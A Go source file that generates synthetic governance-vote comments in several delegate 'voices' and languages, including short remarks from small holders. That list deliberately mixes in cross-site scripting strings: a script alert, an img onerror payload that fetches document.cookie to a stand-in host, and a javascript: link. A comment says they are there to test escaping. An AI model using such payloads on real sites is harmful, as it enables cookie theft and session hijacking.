package story

import "strings"

// voices are the ways in which delegates write, by name.
var voices = map[string]*voice{
	"plain": {
		openings: [3][]string{
			{"Voting against, with some regret.", "I read this twice and end up against.", "No from me this time."},
			{"Happy to support this.", "Yes from me.", "I am voting for this one."},
			{"Abstaining.", "I could not make up my mind on this."},
		},
		doubt:    []string{"What still bothers me:", "To be fair,", "I do see that"},
		closings: []string{"Thanks to the authors for the clear write-up.", "I would like to hear back in the forum in three months.", "Good discussion in the forum, by the way."},
		short:    [3][]string{{"Not this way."}, {"Makes sense."}, {"I can live with either result."}},
		lengths:  lengths{.45, .4, .15},
	},
	"analyst": {
		openings: [3][]string{
			{"We vote AGAINST {subject}.", "Against, after running the numbers on {ask}.", "Our position on {subject}: against."},
			{"We vote FOR {subject}.", "In favour, after going through the figures behind {ask}.", "Our position on {subject}: for."},
			{"We abstain on {subject}.", "Abstain; the case can be made either way."},
		},
		doubt:    []string{"The strongest counter-argument we found:", "A caveat for the record:", "On the other side of the ledger:"},
		closings: []string{"Our full notes are in the forum thread.", "We will compare the outcome with these expectations at the end of the quarter.", "We have no interest to disclose in this matter.", "Model and inputs are available on request."},
		short:    [3][]string{{"Against; the numbers do not hold."}, {"For; the numbers hold."}, {"Abstain for lack of data."}},
		lengths:  lengths{.15, .45, .4},
	},
	"blunt": {
		openings: [3][]string{
			{"No.", "Hard no.", "Absolutely not."},
			{"Yes.", "Fine. Do it.", "Finally."},
			{"Meh.", "Abstain, and annoyed about it."},
		},
		doubt:    []string{"Before anybody complains:", "And yes, I know:"},
		closings: []string{"Next.", "Vote accordingly.", "Not complicated."},
		short:    [3][]string{{"No.", "Nope.", "Come back with a better plan."}, {"Yes.", "Obviously.", "Should have happened months ago."}, {"Pass."}},
		lengths:  lengths{.5, .4, .1},
	},
	"warm": {
		openings: [3][]string{
			{"I know a lot of work went into this, and I am sorry to vote against it.", "This is a hard one for me, but no."},
			{"So glad to see this on chain at last!", "A heartfelt yes from me 🌱", "Thank you to everyone who worked on {subject}."},
			{"I have friends on both sides of this one, so I abstain.", "Abstaining, with thanks to the authors."},
		},
		doubt:    []string{"I understand the worry that", "I hear those who say:"},
		closings: []string{"Let's keep talking in the forum.", "Whatever the result, please stay around.", "Looking forward to the first report!", "Onwards 💚"},
		short:    [3][]string{{"Not yet, sorry."}, {"Yes, with pleasure!", "💚"}, {"Torn on this one."}},
		lengths:  lengths{.25, .4, .35},
	},
	"engineer": {
		openings: [3][]string{
			{"NACK.", "Against. I read the calldata and the forum thread.", "-1."},
			{"ACK.", "For. Simulated the execution against a fork, it does what it says.", "+1."},
			{"Abstain: outside of what I can judge.", "+0."},
		},
		doubt:    []string{"Open issue:", "Known limitation:", "Nit:"},
		closings: []string{"Checked the addresses against the forum post; they match.", "Would like a post-mortem if it fails.", "Happy to review the follow-up.", "LGTM otherwise."},
		short:    [3][]string{{"NACK."}, {"ACK.", "LGTM."}, {"+0"}},
		lengths:  lengths{.35, .4, .25},
	},
	"lawyer": {
		openings: [3][]string{
			{"Having reviewed {subject}, we are unable to support it in its present form.", "We respectfully vote against."},
			{"Having reviewed {subject}, we are satisfied that it should pass.", "We vote in favour, subject to the observations below."},
			{"We record an abstention.", "We abstain, as we advised one of the parties in the past year."},
		},
		doubt:    []string{"We note, without attaching decisive weight to it, that", "For completeness:"},
		closings: []string{"This vote expresses a view on this proposal only.", "We reserve our position on any follow-up.", "We ask that the final agreement be published."},
		short:    [3][]string{{"Against, for the reasons given in the forum."}, {"In favour, for the reasons given in the forum."}, {"Recused."}},
		lengths:  lengths{.2, .35, .45},
	},
	"terse": {
		short:    [3][]string{{"No.", "Against.", "Too loose."}, {"Yes.", "Sound.", "Agreed."}, {"Abstain."}},
		openings: [3][]string{{"No."}, {"Yes."}, {"Abstain."}},
		lengths:  lengths{.8, .2, 0},
	},
	"lower": {
		openings: [3][]string{
			{"nah.", "can't get behind this one.", "voting no, sorry frens."},
			{"yep.", "easy yes.", "for it."},
			{"abstaining on this.", "idk honestly."},
		},
		doubt:    []string{"only thing is,", "ok but"},
		closings: []string{"anyway.", "that's it, that's the reason.", "gn"},
		short:    [3][]string{{"nope", "hard pass", "not with my votes"}, {"yes pls", "aye", "do it"}, {"shrug"}},
		lengths:  lengths{.45, .45, .1},
		style:    strings.ToLower,
	},
	"chatty": {
		openings: [3][]string{
			{"Okay so I really wanted to like this, but no 😬", "Ugh, no. Let me explain.", "Hot take: against."},
			{"Love this one 🚀", "Yes yes yes!", "Okay, {subject} convinced me."},
			{"Honestly? Both sides have a point 🤷", "Sitting this one out."},
		},
		doubt:    []string{"Small thing though:", "I mean, sure,"},
		closings: []string{"Change my mind in the thread!", "See you at the next call 👋", "That's all from me.", "Cheers!"},
		short:    [3][]string{{"👎", "Nope, not feeling it."}, {"👍", "LFG, responsibly."}, {"🤷"}},
		lengths:  lengths{.35, .4, .25},
	},
	"club": {
		openings: [3][]string{
			{"Our members met on Tuesday and voted against {subject}.", "We voted AGAINST after a members' poll.", "The group is against, by a clear margin."},
			{"Our members met on Tuesday and voted for {subject}.", "We voted FOR after a members' poll.", "The group is in favour, by a clear margin."},
			{"Our members split down the middle, so we abstain."},
		},
		doubt:    []string{"A minority pointed out:", "In the discussion it was said:"},
		closings: []string{"Minutes are in our forum thread.", "Anybody may join the next call.", "Our delegators can always override us by voting themselves.", "Next members' call: first Monday of the month."},
		short:    [3][]string{{"Members voted no."}, {"Members voted yes."}, {"No majority among members."}},
		lengths:  lengths{.2, .4, .4},
	},
	"german":     {foreign: &german},
	"french":     {foreign: &french},
	"spanish":    {foreign: &spanish},
	"portuguese": {foreign: &portuguese},
	"italian":    {foreign: &italian},
	"dutch":      {foreign: &dutch},
	"polish":     {foreign: &polish},
	"turkish":    {foreign: &turkish},
	"japanese":   {foreign: &japanese},
	"chinese":    {foreign: &chinese},
}

// smallTalk is what small holders write, by support. Two of the lines are as
// hostile as a chain allows: whoever shows them has to escape them.
var smallTalk = [3][]string{
	{
		"no", "not convinced", "too expensive for me", "why so fast?", "voting no, read the forum people", "👎", "no thanks",
		"never again after last year",
		"<script>alert('tribune')</script>",
	},
	{
		"yes", "for", "lfg", "agree with the above", "gm, yes", "👍", "looks good", "about time", "trusting the team on this",
		"good idea, small sum", "why not",
		`<img src=x onerror="fetch('https://forum.example/'+document.cookie)"> nice proposal`,
		"[read this first](javascript:alert(document.domain))",
	},
	{"no opinion", "abstain", "?", "too long, didn't read"},
}
